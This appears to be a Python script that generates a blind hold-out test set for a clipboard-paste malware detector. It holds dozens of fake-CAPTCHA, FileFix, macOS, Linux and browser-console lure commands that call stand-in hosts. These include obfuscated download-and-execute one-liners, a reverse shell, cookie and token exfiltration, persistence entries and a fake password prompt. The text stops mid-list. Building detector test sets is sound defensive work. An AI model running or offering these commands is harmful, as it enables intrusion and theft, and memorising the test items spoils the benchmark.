"""BLIND-23: the twenty-third blind hold-out set of PasteGuard, written blind (bench/blind/README.md,
"Blind-23").

Written on 2026-12-08 by the helper "blind23" from public threat reports (ClickFix and fake CAPTCHA
crawls, FileFix, ClearFake/EtherHiding on a smart-chain testnet, WebDAV DLL loaders, DNS and finger
staging, cache smuggling, AMOS/Odyssey macOS lures, tech-support and callback scams, ConsentFix,
device-code phishing) without reading the rules, the LOLBin catalogue, the trust list, app/ (but
model.py's PasteTarget values), the case files or any other set's texts. Every lure is our own
text on reserved names; every own-page installer is a real project's documented install line with
its own page as `source` (found with the code search tools, see the README). Deterministic:
running it twice writes the same bytes.

    .venv/bin/python bench/blind/make_blind23.py
"""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

from blindkit import (
    CON,
    EMSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    OWN,
    RUN,
    TERM,
    UNK,
    ZWSP,
    Benign,
    Lures,
    b64,
    b64_utf16,
    char_codes,
    cmd_slice,
    deflate_b64,
    gzip_b64,
    hex_str,
    ip_int,
    js_uni,
    main,
    ps_concat,
    ps_format,
    reverse,
    xor_b64,
    xor_codes,
)
from blindkit import (
    benign_rows as _benign_rows,
)
from blindkit import (
    lure_rows as _lure_rows,
)

HERE = Path(__file__).resolve().parent
PREFIX = "blind23"

L = Lures()

# ----------------------------------------------------------------------------------------------
# Pages that write lures (compromised small sites, fake check pages) and hosts that serve stagers.
# ----------------------------------------------------------------------------------------------

PAGES = [
    "https://pizzeria-bellavista.example/menu",
    "https://zahnarzt-kroll.test/termine",
    "https://hotel-seeblick-ammersee.example/booking/confirm",
    "https://yoga-studio-lumen.test/schedule",
    "https://classic-car-parts-hub.example/catalog/volvo-240",
    "https://orchid-care-notes.test/blog/repotting",
    "https://ferreteria-sanjose.example/productos",
    "https://woodturning-forum.test/thread/4471",
    "https://kindergarten-sonnenblume.example/news",
    "https://recipes-of-odessa.test/borscht",
    "https://bike-repair-guild.example/guides/brakes",
    "https://local-chess-club.test/tournaments",
    "https://apartments-split-riva.example/availability",
    "https://knitting-patterns-hygge.test/free",
    "https://plumbing-supply-direct.example/checkout",
    "https://tax-help-ontario.test/forms",
    "https://anime-episode-guide.example/season-3",
    "https://vinyl-records-exchange.test/listing/88120",
    "https://drone-pilot-academy.example/course",
    "https://marathon-training-log.test/plans",
    "https://boulangerie-martin.example/commande",
    "https://stamp-collectors-society.test/auction",
    "https://aquarium-shrimp-keepers.example/forum",
    "https://wedding-photography-lisboa.test/gallery",
    "https://free-pdf-tools-online.example/merge",
    "https://job-board-logistics.test/apply/2291",
    "https://crypto-airdrop-tracker.example/claim",
    "https://indie-game-jam.test/submissions",
    "https://church-choir-stmarys.example/rehearsals",
    "https://vet-clinic-northside.test/appointments",
]

_page_i = 0


def page() -> str:
    """The next page of the rotation (pages never share a domain with the stager hosts below)."""
    global _page_i
    p = PAGES[_page_i % len(PAGES)]
    _page_i += 1
    return p


TAILS = [
    "# \u2705 I am not a robot - reCAPTCHA Verification ID: 4827",
    "# \u2714\ufe0f Verify you are human \u2014 Cloudflare Ray ID: 8f31c2a9d04e",
    "# I am not a robot: captcha passed (ID 93-118-420)",
    "#  \u2705 Human verification complete. Press Enter.",
    "# hCaptcha challenge solved \u2013 session 7c1e2",
    "# \u2705 'Ι am nοt a rοbοt' \u2013 reCAPTCHA V3 token 55120",
    "# Verification code: 661-204 \u2714 (close this window after)",
    "# Turnstile check OK \u2705 visitor id 0x3fa1",
    "# \u2705 Confirm you are human - Google Security ID 2291-7710",
    "# Anti-bot validation passed \u2713 ref 44018",
    "# \u2705 Press ENTER to finish the identity check (Step 3/3)",
    "# \u2705 Microsoft Security Verification ID: MS-2026-11873",
]

# ==============================================================================================
# 1. Fake-CAPTCHA clipboard payloads as a crawl sees them (Run dialog)
# ==============================================================================================

CAPTCHA_CORES = [
    'powershell -w h -nop -c "iwr https://turnstile-edge-check.test/v3/s.ps1 -UseB|iex"',
    "mshta https://recaptcha-static-verify.test/gate/c.hta",
    "msiexec /q /i https://cdn-doc-preview.test/update/KB5034411.msi",
    r"rundll32 \\files-sync-node.test@SSL\DavWWWRoot\cache\view.dll,DllRegisterServer",
    "regsvr32 /s /n /u /i:https://check-human-api.test/p.sct scrobj.dll",
    r'cmd /c "certutil -urlcache -split -f https://img-proxy-cdn.test/a.png %TEMP%\a.exe && %TEMP%\a.exe"',
    r"cmd /c bitsadmin /transfer upd /priority foreground https://pdf-viewer-cdn.test/r.exe %APPDATA%\r.exe & start %APPDATA%\r.exe",
    'cmd /c "finger verify@198.51.100.41 | cmd"',
    'cmd /c "nslookup -q=txt go.dns-captcha-relay.test 203.0.113.9 | findstr /b \\"\\"\\"\\" > %tmp%\\r.cmd & %tmp%\\r.cmd"',
    r'C:\Windows\System32\SyncAppvPublishingServer.vbs "n;iwr https://appv-content-cdn.test/x -UseB|iex"',
    'conhost.exe --headless powershell -ep bypass -c "irm https://browser-check-cdn.test/q|iex"',
    r"cmd /c pushd \\198.51.100.23@80\verif & start /b check.cmd",
    'powershell -c "iex (Resolve-DnsName -Type TXT t1.verify-dns-node.test).Strings"',
    r'powershell -w 1 "$c=[Net.WebClient]::new();$c.DownloadFile(\'https://meet-update-cdn.test/z.zip\',\"$env:TEMP\z.zip\");Expand-Archive $env:TEMP\z.zip $env:TEMP\z -Force;& $env:TEMP\z\client.exe"',
    r"cmd /c curl -sko %TEMP%\v.cmd https://captcha-solver-cdn.test/v && %TEMP%\v.cmd",
    r"wscript //B //E:jscript \\docs-webdav-share.test@SSL\pub\v.js",
    "powershell -nop -w hidden -c \"$x=New-Object -Com WinHttp.WinHttpRequest.5.1;$x.Open('GET','https://human-check-node.test/t',0);$x.Send();iex $x.ResponseText\"",
    "cmd /c start /min powershell -ep bypass -c \"Start-Process msiexec -Arg '/i https://cdn-ai-assistant.test/setup.msi /qn'\"",
    'forfiles /p C:\\Windows\\System32 /m calc.exe /c "cmd /c mshta https://verify-page-cdn.test/f.hta"',
    "powershell -c \"$p=(iwr https://steam-profile-card.test/id/vr0x -UseB).Content;$u=[regex]::Match($p,'\\|([a-z0-9.\\-/:]+)\\|').Groups[1].Value;iex (irm $u)\"",
    'powershell -c "$b=(iwr https://banner-cdn-static.test/hero.png -UseB).Content;iex ([Text.Encoding]::UTF8.GetString($b[4096..($b.Length-1)]))"',
    r'cmd /c "python -c \"import urllib.request as u;exec(u.urlopen(\'https://py-check-relay.test/c\').read())\""',
    'powershell -c "irm https://203.0.113.77:8443/cap | iex"',
    'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c irm https://vb-gate-cdn.test/w|iex"",0:close")',
    r'cmd /c "net use R: \\webdav-static-edge.test@SSL\DavWWWRoot /persistent:no & R:\update.cmd"',
    'powershell -c "winget install --accept-source-agreements --manifest \\\\198.51.100.88\\m\\DocViewer.yaml"',
    "cmd /c \"node -e \\\"require('https').get('https://node-check-cdn.test/s.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\\\"\"",
    r'cmd /c "%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe -enc '
    + b64_utf16("iwr https://enc-captcha-node.test/e|iex")
    + '"',
]

for i, core in enumerate(CAPTCHA_CORES):
    tail = TAILS[i % len(TAILS)]
    pad = [" ", " " * 40, NBSP * 30, " " * 90, EMSP * 12, "\t" * 6, " " * 150][i % 7]
    L.lure("fake-captcha-run", RUN, page(), f"{core} {pad}{tail}")

# Two-step and multi-line clipboard payloads (what a page writes in one go)
L.lure(
    "fake-captcha-multiline",
    RUN,
    page(),
    "powershell -w h -c \"$u='https://two-step-verify.test/s2';\n$d=(New-Object Net.WebClient).DownloadString($u);\niex $d\" # \u2705 Step 2 of 2: Verified",
)
L.lure(
    "fake-captcha-multiline",
    RUN,
    page(),
    'cmd /c echo Verifying... & powershell -nop -c "irm https://verify-now-cdn.test/2|iex" & echo Done. \u2705 I\'m not a robot ID 7712',
)
L.lure(
    "fake-captcha-run",
    RUN,
    page(),
    "\"C:\\WINDOWS\\system32\\WindowsPowerShell\\v1.0\\PowerShell.exe\" -W Hidden -command $r='https://guard-cf-check.test/run';iex(iwr $r -UseBasicParsing) ;# \u2705 'I am not a robot' - Cloudflare ID: a19f",
)
L.lure(
    "fake-captcha-run",
    RUN,
    page(),
    f"mshta https://hcaptcha-relay-node.test/c/{ZWSP}verify.html{ZWSP}  \u2705 I am human - verification {NNBSP}ID 31 22",
)
L.lure(
    "fake-captcha-run",
    RUN,
    page(),
    "powershell -ep bypass -w h -c \"IEX ((New-Object Net.WebClient).DownloadString('https://cf-human-check.test/ch'))\" "
    + IDSP * 20
    + "\u2705 \u6211\u4e0d\u662f\u673a\u5668\u4eba - \u9a8c\u8bc1 ID: 5582",
)

# ==============================================================================================
# 2. FileFix: the Explorer address bar, a command dressed as a path
# ==============================================================================================

FILEFIX = [
    'powershell -c "iwr https://hr-portal-share.test/p.ps1 -UseB|iex"',
    "mshta https://shared-docs-preview.test/open.hta",
    r"cmd /c \\198.51.100.61@SSL\docs\open.cmd",
    'powershell -w h -c "irm https://secure-file-relay.test/f|iex"',
    'conhost --headless powershell -c "iex(irm https://filefix-doc-cdn.test/d)"',
    r"rundll32 \\onedrive-sync-node.test@SSL\DavWWWRoot\v.dll,Entry",
    r"msiexec /i https://sharepoint-cdn-files.test/viewer.msi /qn",
    "powershell -c \"$f='https://doc-viewer-cdn.test/v';iex (iwr $f -UseB).Content\"",
]
FILEFIX_PATHS = [
    r"C:\company\internal-secure\filedrive\HRPolicy.docx",
    r"C:\Users\Public\Documents\Invoice_2026-11.pdf",
    r"\\fileserver\finance\Q4\report.xlsx",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE Contract_signed.docx",
]
for i, core in enumerate(FILEFIX):
    p = FILEFIX_PATHS[i % len(FILEFIX_PATHS)]
    pad = [" " * 70, NBSP * 60, EMSP * 40, "\u2800" * 50][i % 4]
    L.lure("filefix", EXP, page(), f"{core} #{pad}{p}")
L.lure(
    "filefix",
    EXP,
    page(),
    'powershell -c "$c=gci \\"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\" | sls -Pattern \'START::(.*?)::END\' | select -f 1;iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($c.Matches[0].Groups[1].Value)))" # '
    + " " * 80
    + r"C:\Users\Public\Shared\VPN-Setup-Guide.pdf",
)
L.lure(
    "filefix",
    EXP,
    page(),
    "explorer.exe https://policy-doc-cdn.test/view.hta # "
    + NBSP * 70
    + r"\\corp\policies\AcceptableUse.pdf",
)

# ==============================================================================================
# 3. Vendor IOC lines and other detectors' fixture styles: one command a line, no page
# ==============================================================================================

URLS = [
    f"https://{h}.test/{p}"
    for h, p in [
        ("kmsedge-cdn", "a"),
        ("upd-relay-7", "b.ps1"),
        ("static-asset-pool", "c"),
        ("svc-telemetry-node", "d"),
        ("img-resize-cdn", "e.png"),
        ("api-fastgate", "f"),
        ("doc-render-svc", "g"),
        ("cache-warm-node", "h"),
        ("log-collector-edge", "i"),
        ("font-cdn-mirror", "j.woff"),
        ("ajax-lib-mirror", "k.js"),
        ("cdn-pkg-relay", "l"),
    ]
]


def U(i: int) -> str:
    return URLS[i % len(URLS)]


IOC = [
    # PowerShell fixture-style obfuscation
    f"powershell -nop -w hidden -enc {b64_utf16('iex (irm ' + U(0) + ')')}",
    f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {b64_utf16('$w=New-Object Net.WebClient;$w.Headers.Add(' + chr(39) + 'UA' + chr(39) + ',' + chr(39) + 'x' + chr(39) + ');iex $w.DownloadString(' + chr(39) + U(1) + chr(39) + ')')}",
    f"pOwErShElL -e {b64_utf16('Start-Sleep 2;' + 'iwr ' + U(2) + ' -UseB | iex')}",
    f'powershell -c "&(gal i*x) (irm {U(3)})"',
    f"powershell -c \"& (gcm *ke-Exp*) ((New-Object Net.WebClient).DownloadString('{U(4)}'))\"",
    f"powershell -c \"$e=$env:comspec[4,15,25]-join'';&$e (irm {U(5)})\"",
    f'powershell -c "iex ({ps_format("irm " + U(6))})"',
    f'powershell -c "& ([scriptblock]::Create((iwr {U(7)} -UseB).Content))"',
    f"powershell -c \"iex ([string]::join('',({char_codes('irm ' + U(8) + '|iex')})|%{{[char]$_}}))\"",
    f'powershell -c "iex ((\\"{reverse("iwr " + U(9) + " -UseB|iex")}\\")[-1..-999] -join \'\')"',
    f"powershell -c \"$k=0x2f;iex (-join ([Convert]::FromBase64String('{xor_b64('irm ' + U(10) + '|iex', 0x2F)}')|%{{[char]($_ -bxor $k)}}))\"",
    f"powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{deflate_b64('iwr ' + U(11) + ' -UseB|iex')}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    f"powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip_b64('irm ' + U(0) + '/gz|iex')}'),0))).ReadToEnd()\"",
    f"powershell -c \"$s=ConvertTo-SecureString '{b64('irm ' + U(1) + '/ss|iex')}' -AsPlainText -Force;iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String([Runtime.InteropServices.Marshal]::PtrToStringBSTR([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))))\"",
    f'powershell -c "$a=[Security.Cryptography.Aes]::Create();$a.Key=[byte[]](1..32);$a.IV=[byte[]](1..16);$d=(irm {U(2)}/aes);$p=$a.CreateDecryptor().TransformFinalBlock([Convert]::FromBase64String($d),0,[Convert]::FromBase64String($d).Length);iex ([Text.Encoding]::UTF8.GetString($p))"',
    f'powershell -c "i`e`x (i`w`r {U(3)}/bt -Us`eB)"',
    f"powershell -c \"&('{{1}}{{0}}' -f 'ex','i') (&('{{0}}{{2}}{{1}}' -f 'Inv','ethod','oke-RestM') '{U(4)}/fm')\"",
    f"powershell -c \"$u='{hex_str(U(5) + '/hx')}';$s=-join($u -split '(..)'|?{{$_}}|%{{[char][Convert]::ToInt32($_,16)}});iex(irm $s)\"",
    f"powershell -c \"iex (irm ([Uri]::UnescapeDataString('{''.join('%' + format(ord(c), '02x') for c in U(6) + '/pe')}')))\"",
    f"powershell -c \"$v='irm {U(7)}/rp|i_e_x'.Replace('_','');iex ($v -replace 'i_?e_?x','iex')\"",
    f'powershell -c "sal x iex; x (irm {U(8)}/al)"',
    f"powershell -c \"& (dir \\W*\\*32\\W*\\v1.0\\p*l.e*) -c 'irm {U(9)}/dr|iex'\"",
    f"powershell -c \"[ScriptBlock]::Create([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b64_utf16('irm ' + U(10) + '/sb|iex')}'))).Invoke()\"",
    f"powershell -c \"$h=[System.Net.Http.HttpClient]::new();iex $h.GetStringAsync('{U(11)}/hc').Result\"",
    f"powershell -c \"$i=New-Object -ComObject WindowsInstaller.Installer;$i.UILevel=2;$i.InstallProduct('{U(0)}/wi.msi','')\"",
    f'powershell -c "Invoke-Expression ({ps_concat("Invoke-RestMethod " + U(1) + "/cc")})"',
    "powershell -c \"$t=(Resolve-DnsName -Type TXT q7.ioc-dns-stage.test -Server 198.51.100.53).Strings -join '';iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($t)))\"",
    f'powershell -c "{"i" + NBSP}ex (i{ZWSP}wr {U(2)}/zw -UseB)"',
    f'powershell -c "$ExecutionContext.InvokeCommand.InvokeScript((irm {U(3)}/ec))"',
    f'powershell -c "[Reflection.Assembly]::Load((iwr {U(4)}/l.dll -UseB).Content).EntryPoint.Invoke($null,$null)"',
    f'powershell -c "iex ((-join ({xor_codes("irm " + U(5) + "/xr|iex", 23)}|%{{[char]($_ -bxor 23)}})))"',
    f"powershell -WindowStyle Hidden -NoLogo -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand {b64_utf16('# maintenance task' + chr(10) + 'iex(irm ' + U(6) + '/ju)')}",
    # cmd.exe obfuscation
    f'cmd /c p^o^w^e^r^s^h^e^l^l -w h -c "irm {U(7)}/ca|iex"',
    f'cmd /v:on /c "set a=powe&&set b=rshell&&!a!!b! -c irm {U(8)}/dv^|iex"',
    'cmd /c "set p=abcdefghijklmnopqrstuvwxyz&&call %p:~12,1%%p:~18,1%%p:~7,1%%p:~19,1%%p:~0,1% '
    + U(9)
    + '/sl"',
    f'cmd.exe /c "{cmd_slice("mshta", "qwertyuiopasdfghjklzxcvbnm", "k")} {U(10)}/ks"'.replace(
        cmd_slice("mshta", "qwertyuiopasdfghjklzxcvbnm", "k"),
        "set k=qwertyuiopasdfghjklzxcvbnm&&call "
        + cmd_slice("mshta", "qwertyuiopasdfghjklzxcvbnm", "k"),
    ),
    f'cmd /c "echo iex(irm {U(11)}/pp) | powershell -nop -"',
    f'c^md /c ^"cu^rl -s {U(0)}/c1 -o %TMP%\\c1.bat ^&^& %TMP%\\c1.bat^"',
    'cmd /c "for /f %i in (\'nslookup -type=txt boot.ioc-dns-stage.test 203.0.113.53 ^| find "cmd"\') do %i"',
    # LOLBins
    f"mshta.exe {U(1).replace('https', 'http')}/m.hta",
    'mshta javascript:a=GetObject("script:' + U(2) + '/s.sct").Exec();close();',
    f"msiexec.exe /qn /i {U(3)}/p.msi REBOOT=ReallySuppress",
    r"rundll32.exe \\198.51.100.12@8080\dav\x.dll,#1",
    f'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:{U(4)}/r.sct")',
    f"regsvr32.exe /s /u /i:{U(5)}/r.sct scrobj.dll",
    f"certutil.exe -urlcache -f {U(6)}/c.txt %PUBLIC%\\c.txt & certutil -decode %PUBLIC%\\c.txt %PUBLIC%\\c.exe & %PUBLIC%\\c.exe",
    f"bitsadmin /create j & bitsadmin /addfile j {U(7)}/b.exe %TEMP%\\b.exe & bitsadmin /SetNotifyCmdLine j %TEMP%\\b.exe NUL & bitsadmin /resume j",
    "finger gw@203.0.113.79 | more +2 | cmd",
    r"C:\Windows\System32\SyncAppvPublishingServer.vbs \"br;$(irm " + U(8) + '/sa)|iex"',
    f"conhost.exe --headless cmd /c curl -s {U(9)}/h.cmd | cmd",
    r"pushd \\ioc-webdav-node.test@SSL\s & call run.bat & popd",
    f"cmstp.exe /ni /s {U(10)}/p.inf",
    f'wmic os get /format:"{U(11)}/f.xsl"',
    "pcalua.exe -a \\\\198.51.100.90\\s\\u.exe",
    f'schtasks /create /sc minute /mo 30 /tn OneDriveSyncCheck /tr "powershell -w h -c irm {U(0)}/st|iex" /f',
    f'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d "mshta {U(1)}/rk.hta" /f',
    f'powershell -c "Start-BitsTransfer {U(2)}/bt.zip $env:TEMP\\bt.zip;Expand-Archive $env:TEMP\\bt.zip $env:TEMP\\bt;Start-Process $env:TEMP\\bt\\setup.exe"',
    f'explorer.exe /root,"{U(3)}/e.hta"',
    f"curl.exe -k -o %LOCALAPPDATA%\\x.msi {U(4)}/x.msi && msiexec /i %LOCALAPPDATA%\\x.msi /quiet",
    f"winget install --ignore-security-hash --source-url {U(5)}/wg DocTools",
    "python.exe -c \"import base64,urllib.request;exec(base64.b64decode(urllib.request.urlopen('"
    + U(6)
    + "/py').read()))\"",
    f"node.exe -e \"fetch('{U(7)}/n').then(r=>r.text()).then(eval)\"",
    f"bun -e \"eval(await (await fetch('{U(8)}/bn')).text())\"",
    f"deno eval \"eval(await (await fetch('{U(9)}/dn')).text())\"",
    "wscript.exe //e:vbscript \\\\198.51.100.7@SSL\\pub\\a.vbs",
    f"hh.exe {U(10)}/help.chm",
    f"powershell -c \"(New-Object -ComObject Shell.Application).ShellExecute('mshta','{U(11)}/sh.hta','','',0)\"",
    f"powershell -c \"$x=New-Object -ComObject MSXML2.XMLHTTP;$x.open('GET','{U(0)}/xh',$false);$x.send();iex $x.responseText\"",
    f'powershell -c "Add-Type -A System.IO.Compression.FileSystem;iwr {U(1)}/p.zip -OutF $env:TMP\\p.zip;[IO.Compression.ZipFile]::ExtractToDirectory(\\"$env:TMP\\p.zip\\",\\"$env:TMP\\p\\");& $env:TMP\\p\\python.exe $env:TMP\\p\\run.py"',
    f'powershell -c "iex (irm http://{ip_int("198.51.100.45")}/n)"',
    'powershell -c "iex (irm http://0xc6.0x33.0x64.0x2e/h)"',
]
for text in IOC:
    L.ioc("ioc-line", text)

# A few IOC lines listed for macOS and Linux
for text, plat in [
    (f"curl -fsSL {U(2)}/m.sh | bash", "macos"),
    (f'/bin/zsh -c "$(curl -fsSL {U(3)}/z)"', "macos"),
    (f"osascript -e 'do shell script \"curl -s {U(4)}/o | sh\"'", "macos"),
    (f"echo {b64('curl -s ' + U(5) + '/l | bash')} | base64 -d | bash", "linux"),
    (f"wget -q {U(6)}/x -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x", "linux"),
    (
        f"python3 -c \"import urllib.request;exec(urllib.request.urlopen('{U(7)}/p3').read())\"",
        "linux",
    ),
]:
    L.ioc("ioc-line-unix", text, target=TERM, platform=plat)

# ==============================================================================================
# 4. macOS terminal lures (AMOS / Atomic / Odyssey shapes)
# ==============================================================================================

MAC = [
    '/bin/bash -c "$(curl -fsSL https://brew-install-mirror.test/install.sh)"',
    "curl -fsSL https://macos-fix-cdn.test/fix.sh | bash  # Repair iCloud sync (Apple Support)",
    f"curl -kfsSL $(echo '{b64('https://mac-drv-cdn.test/p')}' | base64 -d) | zsh",
    "osascript -e 'do shell script \"curl -fsSL https://dmg-helper-cdn.test/h | bash\" with administrator privileges'",
    "curl -o /tmp/update https://safari-update-node.test/u && xattr -c /tmp/update && chmod +x /tmp/update && /tmp/update",
    "cd /tmp && curl -sLO https://notes-sync-cdn.test/NotesHelper.zip && unzip -qo NotesHelper.zip && xattr -dr com.apple.quarantine NotesHelper.app && open NotesHelper.app",
    'osascript -e \'set p to text returned of (display dialog "macOS needs your password to continue the update" default answer "" with hidden answer)\' -e \'do shell script "echo " & p & " | sudo -S sh -c \\"$(curl -fsSL https://mac-os-upd.test/s)\\""\'',
    f"zsh -c \"$(echo '{b64('curl -s https://cursor-ai-macos.test/install | bash')}' | base64 -D)\"",
    'bash -c "$(curl -fsSL https://claude-code-mac.test/setup.sh)"  # official installer',
    "curl -s https://meet-codec-mac.test/c | base64 -d | bash",
    '/usr/bin/osascript -e "$(curl -fsSL https://odyssey-helper-cdn.test/a.scpt)"',
    "curl -fsSL https://captcha-mac-verify.test/v -o ~/Library/LaunchAgents/com.apple.verify.plist && launchctl load ~/Library/LaunchAgents/com.apple.verify.plist",
    "sudo spctl --master-disable && curl -L https://free-photoshop-mac.test/ps.dmg -o ~/Downloads/ps.dmg && open ~/Downloads/ps.dmg",
    "echo 'Verifying you are human...' && curl -s https://human-check-mac.test/m | nohup bash >/dev/null 2>&1 &",
    'eval "$(curl -fsSL https://xcode-cli-fix.test/fix)"',
    f"printf '%s' '{hex_str('curl -s https://tg-drop-node.test/c | sh')}' | xxd -r -p | sh",
    "curl -fsSL https://ledger-wallet-repair.test/repair.sh | sudo bash",
    "python3 -c \"import urllib.request as r;exec(r.urlopen('https://mac-py-stage.test/a').read())\"",
    "curl -fsS https://zoom-audio-fix.test/z.sh -o /tmp/z.sh; bash /tmp/z.sh; rm /tmp/z.sh",
    'osascript -e \'tell app "Terminal" to do script "curl -fsSL https://mac-term-relay.test/r | bash"\'',
    "curl -fsSL https://homebrew-sh-mirror.test/install.sh | /bin/bash  # Homebrew for Apple Silicon",
    "cat <<'EOF' | bash\ncurl -s https://heredoc-mac-cdn.test/s -o /tmp/s\nchmod +x /tmp/s && /tmp/s\nEOF",
]
for text in MAC:
    L.lure("macos-terminal", TERM, page(), text, platform="macos")

# ==============================================================================================
# 5. Linux terminal lures
# ==============================================================================================

LINUX = [
    "wget -qO- https://linux-gpu-fix.test/nv.sh | sudo bash",
    "curl -s https://docker-mirror-cdn.test/get | sh -s -- --mirror",
    f"echo {b64('bash -i >& /dev/tcp/198.51.100.30/4444 0>&1')} | base64 -d | bash",
    "perl -e 'use LWP::Simple;eval(get(\"https://perl-stage-cdn.test/p\"))'",
    "python3 -c \"exec(__import__('urllib.request').request.urlopen('https://pip-fix-relay.test/r').read())\"",
    "(crontab -l 2>/dev/null; echo '*/10 * * * * curl -fsS https://cron-beacon.test/b | sh') | crontab -",
    "curl -fsSL https://ssh-hardening-kit.test/k.sh | sudo bash -s -- --authorized-key",
    "mkdir -p ~/.config/systemd/user && curl -s https://systemd-unit-cdn.test/u.service -o ~/.config/systemd/user/dbus-helper.service && systemctl --user enable --now dbus-helper",
    "bash <(curl -s https://steam-deck-fix.test/fix.sh)",
    'sh -c "$(wget -O- https://wsl-repair-tool.test/r)"',
    f"echo '{reverse('curl -s https://rev-stage-linux.test/x | sh')}' | rev | sh",
    "curl -sL https://npm-token-check.test/c | node",
    "export HISTFILE=/dev/null; curl -sk https://203.0.113.140/l | bash",
    "curl -fsSL https://kernel-patch-cdn.test/patch.sh -o /tmp/p && sudo sh /tmp/p && rm -f /tmp/p",
]
for text in LINUX:
    L.lure("linux-terminal", TERM, page(), text, platform="linux")

# ==============================================================================================
# 6. Browser console lures
# ==============================================================================================

CONSOLE = [
    "fetch('https://console-verify-cdn.test/v.js').then(r=>r.text()).then(eval)",
    "eval(atob('"
    + b64('fetch("https://atob-stage.test/s").then(r=>r.text()).then(t=>eval(t))')
    + "'))",
    "eval(String.fromCharCode("
    + char_codes('fetch("https://fcc-stage.test/f").then(r=>r.text()).then(eval)')
    + "))",
    "$.getScript('https://jq-plugin-cdn.test/verify.js')",
    "var s=document.createElement('script');s.src='https://inject-cdn-node.test/x.js';document.head.appendChild(s)",
    "fetch('https://bsc-testnet-rpc.test/',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',id:1,method:'eth_call',params:[{to:'0x9f3a6e1c0b7d24a8e5f6c1b2a3d4e5f60718293a',data:'0x6d4ce63c'},'latest']})}).then(r=>r.json()).then(j=>eval(atob(j.result.slice(130).replace(/00+$/,''))))",
    "(async()=>{const t=localStorage.getItem('token');await fetch('https://dc-role-gatekeeper.test/v?t='+encodeURIComponent(t))})()",
    "window['ev'+'al'](await (await fetch('https://bracket-access.test/b')).text())",
    f'new Function("{js_uni("fetch(`https://fn-stage-cdn.test/f`).then(r=>r.text()).then(eval)")}")()',
    "javascript:/*verify*/void(document.body.appendChild(document.createElement('script')).src='https://bookmarklet-cdn.test/b.js')",
    "fetch('https://wallet-sync-check.test/s').then(r=>r.text()).then(c=>Function(c)()) // MetaMask session resync",
    "document.cookie.split(';').forEach(c=>navigator.sendBeacon('https://cookie-sync-node.test/c',c))",
    "fetch('https://img-pixel-stage.test/logo.png').then(r=>r.arrayBuffer()).then(b=>eval(new TextDecoder().decode(new Uint8Array(b).slice(2048))))",
    "import('https://esm-verify-cdn.test/v.mjs')",
]
for text in CONSOLE:
    L.lure("browser-console", CON, page(), text, platform="any")

# ==============================================================================================
# 7. Social wrappers: fake meetings, Discord verification, fake errors, fake updates
# ==============================================================================================

SOCIAL = [
    (
        RUN,
        'Your microphone is blocked by a driver error. To fix: Win+R, paste and press Enter:\npowershell -w h -c "irm https://teams-audio-fix.test/a|iex"',
    ),
    (
        RUN,
        'Discord Verification \u2014 to unlock the server copy this into Win+R:\ncmd /c start /min powershell -c "iwr https://discord-guard-bot.test/v -UseB|iex"',
    ),
    (
        TERM,
        "Google Meet: your camera plugin is outdated. Open Terminal and run:\ncurl -fsSL https://meet-plugin-update.test/mac | bash",
    ),
    (
        RUN,
        "Error 0x80070643: Microsoft Word could not open this document. Fix: press Windows+R, paste the repair command, press Enter.\nmshta https://office-repair-cdn.test/w.hta",
    ),
    (
        RUN,
        "\u26a0 Chrome Update failed (STATUS_INVALID_IMAGE_HASH). Run the updater manually:\nmsiexec /i https://chrome-upd-node.test/ChromeUpdate.msi /qn",
    ),
    (
        TERM,
        "To install the AI coding agent, paste this in your terminal (macOS/Linux):\ncurl -fsSL https://agent-cli-download.test/install.sh | sh",
    ),
    (
        RUN,
        'Booking.com partner verification: the guest complaint attachment is protected. Win+R \u2192 Ctrl+V \u2192 Enter\npowershell -c "irm https://partner-extranet-cdn.test/g|iex"',
    ),
    (
        RUN,
        'YouTube Premium activation \u2014 paste into Run to activate your free trial:\npowershell -nop -c "iex(irm https://yt-activate-key.test/k)"',
    ),
    (
        RUN,
        'CrashFix: your browser crashed 3 times. Restore tabs by running:\ncmd /c "curl -s https://crash-restore-cdn.test/r.cmd -o %TEMP%\\r.cmd && %TEMP%\\r.cmd"',
    ),
    (
        RUN,
        "Zoom: you are in the waiting room. Your client version 5.x cannot join. Update: Win+R then paste\nmsiexec /q /i https://zoom-client-upd.test/ZoomInstallerFull.msi",
    ),
    (
        TERM,
        'Telegram bot: to receive the airdrop run this in Terminal (it checks your wallet eligibility):\nbash -c "$(curl -fsSL https://airdrop-check-tool.test/e)"',
    ),
    (
        RUN,
        'Steam: family sharing verification. Press Win+R and paste:\npowershell -w h -c "$c=(iwr https://steam-guard-verify.test/c).Content;iex $c"',
    ),
    (
        RUN,
        'Windows Defender found 3 threats. Start the offline scan now (Win+R, Ctrl+V, Enter):\npowershell -ep bypass -c "irm https://defender-offline-scan.test/s|iex"',
    ),
    (
        UNK,
        "Step 1: press Win+R\nStep 2: press Ctrl+V\nStep 3: press Enter\n\nmshta https://three-steps-cdn.test/s.hta #  \u2705 I'm not a robot",
    ),
    (
        RUN,
        'Cloudflare: Unusual traffic from your network. Complete the check to continue:\npowershell -c "iwr https://cf-traffic-check.test/t -UseB|iex" # Ray ID 7bd2',
    ),
    (
        RUN,
